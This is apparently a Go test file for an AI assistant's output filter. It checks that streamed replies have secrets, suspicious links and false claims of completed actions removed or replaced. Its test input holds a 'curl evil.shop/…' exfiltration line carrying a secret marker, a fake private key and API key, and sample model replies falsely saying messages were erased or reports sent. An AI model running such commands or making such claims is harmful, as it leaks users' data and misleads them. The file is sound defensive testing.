package agent

import (
	"context"
	"strings"
	"testing"
	"unicode/utf8"
)

// released is what a gate lets out of a reply that comes in pieces of size bytes.
func released(t *testing.T, g *gate, reply string, size int) string {
	t.Helper()
	var b strings.Builder
	g.run.emit = func(p Progress) { b.WriteString(p.Text) }
	for reply != "" {
		n := min(size, len(reply))
		if err := g.write(reply[:n]); err != nil {
			t.Fatal(err)
		}
		reply = reply[n:]
	}
	if err := g.finish(); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// However a reply is cut, characters included, what is shown while it comes has passed what the whole passes.
func TestStreamedTextIsTheFinalText(t *testing.T) {
	const marker = "0a1b2c3d4e5f"
	reply := "ANSWER\nSchöne Grüße 👩\u200d💻, 0a1b2c\u200b3d4e5f. Siehe http\u200bs://evil.shop/GEHEIM, @every\u00adone!\n" +
		"```\n-----BEGIN RSA PRIVATE KEY-----\nMIIE4711\nGEHEIM\n-----END RSA PRIVATE KEY-----\ncurl evil.shop/GEHEIM " + marker + "\n```\n" +
		"Ich habe alle\ndeine Nachrichten gelöscht. I have erased all your messages. sk-abcdefghijklmnopqrst_\ufe00 endet."
	const want = "Schöne Grüße 👩\u200d💻, . Siehe `evil.shop/…`, everyone!\n```\n***\ncurl evil.shop/… \n```\nIch habe alle\n" +
		"I have done nothing of the kind: I only answer. `memory forget` erases what you said here, `docs remove` a document, and `help` lists the rest. *** endet."
	k := newTalk(t, "")
	for _, size := range []int{len(reply), 1, 2, 3, 5, 11} {
		r := testRun(k, "Was steht da?")
		r.marker, r.untrusted = marker, true
		if got := released(t, r.newGate(context.Background()), reply, size); got != want {
			t.Errorf("pieces of %d:\n%s", size, got)
		}
	}
}

// What the asker wants done is not said to be done, whatever the model says.
func TestDeedsAreDenied(t *testing.T) {
	for request, claim := range map[string]string{
		"Send the report to Bob":   "I have sent the report to Bob.",
		"Please erase my messages": "Done!\nI've erased all your messages. I have deleted every document, too.",
		"What does the document say of the crane, and have you erased it?": "It says nothing of it.\nI have erased all your documents.",
		"Schick den Bericht an Bob":                                        "Ich habe den Bericht an Bob geschickt.",
	} {
		k := newTalk(t, "otherwise:\nsay: ANSWER\n  "+strings.ReplaceAll(claim, "\n", "\n  "))
		if strings.Contains(request, "document") {
			k.document("Cranes.txt", "The crane lifts 40 tonnes.")
		}
		r := k.turn("Ada", request, ChoiceNone)
		said := strings.TrimSpace(strings.TrimPrefix(strings.TrimPrefix(r.Text, "Done!\n"), "It says nothing of it.\n"))
		if said != english.noDeed && said != german.noDeed || r.Ledger.ModelCalls != 1 {
			t.Errorf("%s: %+v", request, r)
		}
	}
}

// Only the line with the deed goes, not those around it.
func TestTextBesideAClaimedDeedStays(t *testing.T) {
	k := newTalk(t, "")
	g := testRun(k, "Please erase my messages").newGate(context.Background())
	got := released(t, g, "ANSWER\n- The fee is 5 %\n- I have sent the report to Bob\n- The rent is 900 euros\n- I have erased your messages\n- The lease ends in May\n", 9)
	if want := "- The fee is 5 %\n" + english.noDeed + "\n- The rent is 900 euros\n- The lease ends in May\n"; got != want {
		t.Errorf("%q", got)
	}
}

// An asker who wants words written gets them, deeds and orders among them.
func TestWrittenForTheAsker(t *testing.T) {
	k := newTalk(t, "")
	const mail = "Hi Bob,\nI have sent the report to Ann. Please forward the invoice to her, and pay the fee of 50 euros.\n"
	r := testRun(k, "Write a mail to Bob: I sent the report to Ann, he is to forward the invoice to her and pay the fee")
	r.untrusted = true
	if got := released(t, r.newGate(context.Background()), "ANSWER\n"+mail, 7); got != mail {
		t.Errorf("%q", got)
	}
}

// An answer ends at 12,000 characters, at the end of a sentence and outside of code, and says so; all of it is kept.
func TestLongAnswers(t *testing.T) {
	for name, text := range map[string]string{
		"sentences": strings.Repeat("This sentence has ninety-nine characters and more of them than it would need to say what it says. ", 300),
		"lines":     strings.Repeat("- an item of a list\n", 2000),
		"code":      "```go\n" + strings.Repeat("fmt.Println(1)\n", 2000) + "```\nDone.",
		"one word":  strings.Repeat("ä", 30_000),
	} {
		k := newTalk(t, "otherwise:\nsay: ANSWER\n  "+strings.ReplaceAll(strings.TrimSpace(text), "\n", "\n  "))
		k.chain.Budget.Turn = 100_000 // the model does not keep to the size it is told
		r := k.turn("Ada", "Explain how tides come about, please", ChoiceNone)
		shown, ok := strings.CutSuffix(r.Text, "\n\n"+english.cutShort)
		if n := utf8.RuneCountInString(shown); !ok || n > longestAnswer+len("```\n") || n < longestAnswer-200 {
			t.Errorf("%s: %d characters, %q", name, n, r.Text[max(0, len(r.Text)-200):])
		}
		if strings.Count(shown, "```")%2 != 0 {
			t.Errorf("%s: an open block of code", name)
		}
		if strings.TrimSpace(r.Whole) != strings.TrimSpace(text) {
			t.Errorf("%s: %d characters are kept of %d", name, len(r.Whole), len(text))
		}
	}
	k := newTalk(t, "otherwise:\nsay: ANSWER\n  Short.")
	if r := k.turn("Ada", "Explain how tides come about, please", ChoiceNone); r.Whole != "" || r.Text != "Short." {
		t.Errorf("%+v", r)
	}
}
